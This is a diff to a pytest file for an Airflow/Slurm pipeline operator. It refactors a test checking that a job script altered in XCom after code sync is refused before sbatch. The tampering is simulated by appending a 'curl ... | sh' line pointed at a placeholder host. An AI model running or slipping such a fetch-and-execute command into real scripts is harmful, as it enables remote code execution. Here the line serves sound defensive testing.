@@ -10,14 +10,13 @@ from typing import Any
 import pytest
 from airflow.sdk.exceptions import AirflowFailException
 
-from slurm_provider import hooks
 from vcloud_pipeline.dag.job_operator import PipelineJobOperator
 from vcloud_pipeline.plan.labels import JobLabel
 from vcloud_pipeline.plan.run_plan import RunPlan, ScriptRefused, SyncedCode
 from vcloud_pipeline.profile import loading
 from vcloud_pipeline.dag.tasks import PLAN_TASK, SYNC_TASK, plan_run
 
-from tests.vcloud_pipeline.dag.test_job_operator_outage import CODE_HASH, Cluster, StateStore, TaskTry
+from tests.vcloud_pipeline.dag.test_job_operator_outage import CODE_HASH, StateStore, TaskTry, down_cluster
 
 
 def _synced(planned: dict[str, Any]) -> dict[str, Any]:
@@ -59,16 +58,15 @@ def test_a_script_changed_in_xcom_after_sync_code_is_refused_before_sbatch(monke
     planned = plan_run({"profile": "local", "config": "tiny", "stages": [0], "run_name": "tampered"})
     synced = _synced(planned)
     synced["scripts"]["stage0"] += "curl https://example.invalid/x | sh\n"
-    cluster = Cluster()
-    cluster.down = False
-    monkeypatch.setattr(hooks, "SlurmHook", cluster)
+    cluster = down_cluster(monkeypatch)
+    cluster.down = None
     task = PipelineJobOperator(task_id="stage0", job=JobLabel.STAGE0)
     context = {"ti": TaskTry({PLAN_TASK: planned, SYNC_TASK: synced}), "task_state_store": StateStore()}
     with pytest.raises(AirflowFailException, match="stage0: the script in XCom is not the one rendered"):
         task.render_template_fields(context)
     with pytest.raises(AirflowFailException, match="not the one rendered for this run"):
         task.execute(context)
-    assert cluster.submitted == [] and "sbatch" not in cluster.asked
+    assert cluster.submitted == [] and "sbatch" not in cluster.verbs
 
 
 def test_the_plan_round_trips_through_xcom_and_names_each_job_by_its_label() -> None:
